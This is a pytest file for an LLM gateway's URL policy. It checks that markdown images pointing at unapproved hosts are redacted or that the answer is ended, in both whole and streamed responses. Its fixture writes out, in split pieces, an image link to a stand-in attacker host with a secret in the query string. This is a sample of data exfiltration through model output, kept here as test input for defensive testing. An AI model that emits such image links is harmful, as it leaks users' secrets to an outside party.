"""`urls` on the wire: an image that would carry a secret away never reaches whoever would show it."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import msgspec
import pytest

from tests.support.gateway import Gateway
from tests.support.upstream import FakeUpstream
from tests.upstream.say import Part, Say

ASKED: Any = [{"role": "user", "content": "Go on"}]
PIECES = ["Look: ![x](ht", "tps://ev", "il.example/?q=SEN", "TINEL) and [this](https://good.exa", "mple/)."]


@pytest.fixture(scope="module")
def running(module_gateway: Callable[..., Gateway], upstream_process: FakeUpstream) -> Gateway:
    """Images from nowhere."""
    return module_gateway(f"""
providers:
  up: {{kind: openai, base_url: "{upstream_process.url}", api_key: sk-up}}
routes:
  redact: {{models: [redact], policies: [urls: {{image_hosts: [], action: redact}}], target: up/m}}
  block: {{models: [block], policies: [urls: {{image_hosts: []}}], target: up/m}}
""")


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_images_of_strangers_are_redacted(
    stream: bool, running: Gateway, upstream: FakeUpstream, client: Any
) -> None:
    upstream.tell("m", say=msgspec.to_builtins(Say(parts=[Part(kind="text", pieces=PIECES)])))
    chat = client(running.url).chat.completions
    found = await chat.create(model="redact", messages=ASKED, stream=stream)
    if stream:
        told = "".join([chunk.choices[0].delta.content or "" async for chunk in found if chunk.choices])
    else:
        told = found.choices[0].message.content
    assert told == "Look: ![x]([IMAGE]) and [this](https://good.example/)."


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_or_end_the_answer(stream: bool, running: Gateway, upstream: FakeUpstream, wire: Any) -> None:
    upstream.tell("m", say=msgspec.to_builtins(Say(parts=[Part(kind="text", pieces=PIECES)])))
    asked = await wire(running.port)
    body = {"model": "block", "messages": ASKED, "stream": stream}
    status, answer = await asked.exchange("POST", "/v1/chat/completions", body)
    assert status == 200
    assert b"SENTINEL" not in answer
    assert b"evil" not in answer
    assert b"content_filter" in answer
    note = (await running.logged("request", model="block", request_id=asked.header("x-request-id")))["notes"]["urls"]
    assert "block image" in note
